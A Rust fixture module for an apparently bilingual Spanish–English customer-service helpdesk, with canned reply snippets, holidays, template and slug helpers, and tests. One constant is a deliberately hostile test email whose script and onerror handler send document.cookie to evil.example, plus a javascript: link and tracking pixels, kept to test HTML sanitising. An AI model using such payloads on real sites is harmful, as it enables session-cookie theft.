pub(super) const SIGN_AGENT_ES: &str = "Un saludo,\n{agent_full}\nAtención al cliente · Tienda";
pub(super) const SIGN_AGENT_EN: &str = "Best regards,\n{agent_full}\nCustomer Service · Tienda";

/// The one hostile email: scripts, handlers, a tracking pixel and a `javascript:` link.
/// After `html::sanitize` nothing of that survives; the test proves it.
pub(super) const HOSTILE_EMAIL_HTML: &str = r#"<html><head><style>body{background:url(https://tracker.example/bg.gif)}</style>
<script>document.location='https://evil.example/steal?c='+document.cookie</script></head>
<body onload="alert('hola')">
<p>Hola,</p>
<p>el código <b>{code}</b> no se aplica en el carrito y me dice que no es válido. Os copio el mensaje tal cual me sale.</p>
<img src="https://tracker.example/open.gif?u=8812" width="1" height="1">
<img src="x" onerror="fetch('https://evil.example/'+document.cookie)">
<p><a href="javascript:alert(document.domain)">Ver captura</a> · <a href="https://tienda.example/carrito">Mi carrito</a></p>
<p>Un saludo,<br>{full}</p>
</body></html>"#;

/// What the hostile email's plain-text part says.
pub(super) const HOSTILE_EMAIL_TEXT: &str = "Hola,\n\nel código {code} no se aplica en el carrito y me dice que no es válido. Os copio el mensaje tal cual me sale.\n\nVer captura · Mi carrito\n\nUn saludo,\n{full}";

/// Canned answers: (shortcut, language, title, body).
pub(super) const SNIPPETS: &[(&str, &str, &str, &str)] = &[
    (
        "saludo",
        "es",
        "Saludo",
        "Hola {{customer.firstName}}, soy {{agent.name}}, del equipo de atención al cliente. Gracias por escribirnos. ¿En qué puedo ayudarte?",
    ),
    (
        "saludo",
        "en",
        "Greeting",
        "Hi {{customer.firstName}}, I'm {{agent.name}} from the customer service team. Thanks for getting in touch. How can I help?",
    ),
    (
        "disculpa",
        "es",
        "Disculpa (paso a paso)",
        "Hola {{customer.firstName}}, entiendo perfectamente tu malestar: esperabas tu pedido {{order.id}} y no ha salido como debía.\n\
         Te pido disculpas en nombre de todo el equipo.\n\
         Te explico lo que ha pasado: […].\n\
         Ya lo he solucionado: […].\n\
         Como compensación, te he aplicado […] en tu próximo pedido.\n\
         Gracias por tu paciencia; cualquier cosa, aquí me tienes.\n{{agent.name}}",
    ),
    (
        "disculpa",
        "en",
        "Apology (step by step)",
        "Hi {{customer.firstName}}, I completely understand your frustration: you were expecting order {{order.id}} and it didn't go as it should.\n\
         I'm sorry, on behalf of the whole team.\n\
         Here's what happened: […].\n\
         I've already fixed it: […].\n\
         To make up for it, I've added […] to your next order.\n\
         Thanks for your patience; I'm here if you need anything else.\n{{agent.name}}",
    ),
    (
        "envio",
        "es",
        "Estado del envío",
        "Hola {{customer.firstName}}, he revisado tu pedido {{order.id}}: ya ha salido de nuestro almacén y está en manos del transportista. Puedes seguirlo aquí: […]. La entrega estimada es […]. Si no llega en esa fecha, escríbeme y lo resolvemos.\n{{agent.name}}",
    ),
    (
        "envio",
        "en",
        "Shipping status",
        "Hi {{customer.firstName}}, I've checked order {{order.id}}: it has left our warehouse and is with the courier. You can track it here: […]. Estimated delivery is […]. If it hasn't arrived by then, write to me and we'll sort it out.\n{{agent.name}}",
    ),
    (
        "devolucion",
        "es",
        "Devoluciones",
        "Hola {{customer.firstName}}, tienes 30 días desde la entrega para devolver tu pedido {{order.id}}. Entra en «Mis pedidos», elige «Devolver» y te enviaremos una etiqueta gratuita. Emitimos el reembolso en cuanto recibimos el artículo; tu banco tarda 3-5 días hábiles en mostrarlo.\n{{agent.name}}",
    ),
    (
        "devolucion",
        "en",
        "Returns",
        "Hi {{customer.firstName}}, you have 30 days from delivery to return order {{order.id}}. Go to \"My orders\", choose \"Return\" and we'll send you a free label. We issue the refund as soon as the item reaches us; your bank takes 3-5 working days to show it.\n{{agent.name}}",
    ),
    (
        "factura",
        "es",
        "Factura",
        "Hola {{customer.firstName}}, te adjunto la factura de tu pedido {{order.id}}. También puedes descargarla en «Mis pedidos». Si necesitas que figure a nombre de una empresa, indícame la razón social, el NIF/CIF y la dirección fiscal.\n{{agent.name}}",
    ),
    (
        "factura",
        "en",
        "Invoice",
        "Hi {{customer.firstName}}, please find attached the invoice for order {{order.id}}. You can also download it from \"My orders\". If it needs to be in a company's name, send me the company name, VAT number and billing address.\n{{agent.name}}",
    ),
    (
        "cierre",
        "es",
        "Cierre",
        "Gracias por contactar con nosotros, {{customer.firstName}}. Si necesitas algo más, responde a este mensaje y te ayudaremos encantados. ¡Que tengas un buen día!\n{{agent.name}}",
    ),
    (
        "cierre",
        "en",
        "Closing",
        "Thanks for contacting us, {{customer.firstName}}. If you need anything else, just reply to this message and we'll be happy to help. Have a great day!\n{{agent.name}}",
    ),
];

/// Spanish national holidays on fixed dates: (month, day, name). Good Friday is computed.
pub(super) const FIXED_HOLIDAYS: &[(u32, u32, &str)] = &[
    (1, 1, "Año Nuevo"),
    (1, 6, "Epifanía del Señor"),
    (5, 1, "Fiesta del Trabajo"),
    (8, 15, "Asunción de la Virgen"),
    (10, 12, "Fiesta Nacional de España"),
    (11, 1, "Todos los Santos"),
    (12, 6, "Día de la Constitución Española"),
    (12, 8, "Inmaculada Concepción"),
    (12, 25, "Navidad"),
];

/// Fills `{key}` placeholders; unknown keys stay as written.
pub(super) fn fill(template: &str, vars: &[(&str, &str)]) -> String {
    let mut out = String::with_capacity(template.len() + 32);
    let mut rest = template;
    while let Some(start) = rest.find('{') {
        out.push_str(&rest[..start]);
        let after = &rest[start + 1..];
        match after.find('}') {
            Some(end) => {
                let key = &after[..end];
                match vars.iter().find(|(k, _)| *k == key) {
                    Some((_, v)) => out.push_str(v),
                    None => {
                        out.push('{');
                        out.push_str(key);
                        out.push('}');
                    }
                }
                rest = &after[end + 1..];
            }
            None => {
                out.push_str(&rest[start..]);
                rest = "";
            }
        }
    }
    out.push_str(rest);
    out
}

/// Lowercase ASCII for email local parts and social handles ("Núñez" → "nunez").
pub(super) fn ascii_slug(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for ch in s.chars() {
        let c = match ch {
            'á' | 'à' | 'ä' | 'â' | 'Á' | 'À' | 'Ä' | 'Â' => 'a',
            'é' | 'è' | 'ë' | 'ê' | 'É' | 'È' | 'Ë' | 'Ê' => 'e',
            'í' | 'ì' | 'ï' | 'î' | 'Í' | 'Ì' | 'Ï' | 'Î' => 'i',
            'ó' | 'ò' | 'ö' | 'ô' | 'Ó' | 'Ò' | 'Ö' | 'Ô' => 'o',
            'ú' | 'ù' | 'ü' | 'û' | 'Ú' | 'Ù' | 'Ü' | 'Û' => 'u',
            'ñ' | 'Ñ' => 'n',
            'ç' | 'Ç' => 'c',
            c if c.is_ascii_alphanumeric() => c.to_ascii_lowercase(),
            _ => continue,
        };
        out.push(c);
    }
    out
}

/// Minimal HTML for an email body written as plain text: paragraphs and line breaks.
pub(super) fn text_to_html(text: &str) -> String {
    let escape = |s: &str| s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;");
    let mut html = String::from("<div dir=\"ltr\">");
    for para in text.split("\n\n") {
        html.push_str("<p>");
        html.push_str(&para.lines().map(escape).collect::<Vec<_>>().join("<br>"));
        html.push_str("</p>");
    }
    html.push_str("</div>");
    html
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fill_replaces_known_keys_only() {
        assert_eq!(fill("Hola {name}, {x} {{a}}", &[("name", "Ana")]), "Hola Ana, {x} {{a}}");
        assert_eq!(fill("sin cierre {name", &[("name", "Ana")]), "sin cierre {name");
    }

    #[test]
    fn slug_folds_spanish_letters() {
        assert_eq!(ascii_slug("Núñez-Íñigo O'Brien"), "nunezinigoobrien");
    }

    #[test]
    fn every_topic_has_every_slot() {
        for t in TOPICS {
            for s in [&t.es, &t.en] {
                // Two whole exchanges per topic: variant i of each slot answers variant i.
                for bank in [s.open, s.reply, s.follow, s.resolve, s.thanks] {
                    assert_eq!(bank.len(), 2, "{}", s.subject);
                }
                assert!(!s.note.is_empty(), "{}", s.subject);
            }
        }
        assert_eq!(TOPICS.len(), 10);
        assert!(TOPICS[TOPIC_DISCOUNT].es.subject.contains("{code}"));
    }
}
